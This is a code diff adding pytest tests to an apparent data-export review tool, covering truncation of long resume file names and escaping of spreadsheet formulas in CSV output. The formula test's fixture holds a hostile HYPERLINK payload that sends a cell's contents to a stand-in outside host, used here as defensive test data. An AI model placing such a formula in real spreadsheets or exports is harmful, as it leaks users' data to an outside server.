@@ -7,6 +7,8 @@ import io
 import zipfile
 from datetime import date
 
+import pytest
+
 from automation.review import Options, Review, review_export
 from automation.review.mask import mask_all, mask_email, mask_phone
 from automation.review.synthetic import EMAIL, PHONE, build
@@ -121,3 +123,28 @@ def test_masking_keeps_the_ends_and_hides_the_middle() -> None:
     assert mask_email("ada.lovelace@example.org") == "a…e@e….org"
     assert mask_phone("+44 20 7946 0958") == "+44 2• •••• ••58"
     assert mask_all(f"a {EMAIL} b {PHONE} c") == "a r…e@e….org b +44 2• •••• ••58 c"
+
+
+def test_a_resume_name_is_shown_in_full_but_a_field_too_long_for_a_file_name_is_cut_and_counted() -> None:
+    from automation.review import LimitError, Limits
+
+    rows = "".join(f"2024-01-0{i} 10:00:00,Acme,{'x' * 5000}{i}.pdf\n" for i in range(1, 5))
+    data = export(Jobs_slash_Job__Applications="Application Date,Company Name,Resume Name\n" + rows)
+    resumes = [f for f in run(data).flags if f.kind == "resume"]
+    assert len(resumes) == 4 and all(len(f.excerpt) < 300 and f.excerpt.endswith(".pdf") for f in resumes)
+    with pytest.raises(LimitError, match="more than 3 flags"):
+        review_export(data, Options(limits=Limits(flags=3)))
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula_from_the_export() -> None:
+    """A recommendation or a post is text from the export; in a spreadsheet a cell starting with
+    = + - @ would run as a formula. Each such cell starts with an apostrophe instead."""
+    import csv
+
+    from automation.review.flags_csv import flags_csv
+
+    data = export(Shares=POSTS + f'2024-01-01 10:00:00,{LINK},"=HYPERLINK(""http://x.example/?""&A1,""Acme"")",,,\n'
+                  + f'2024-01-02 10:00:00,{LINK},"@SUM(1+1) Acme",,,\n')
+    rows = list(csv.DictReader(io.StringIO(flags_csv(run(data, watch=("Acme",))))))
+    excerpts = [row["excerpt"] for row in rows if row["kind"] == "watch-word"]
+    assert len(excerpts) == 2 and all(e.startswith("'") for e in excerpts), excerpts
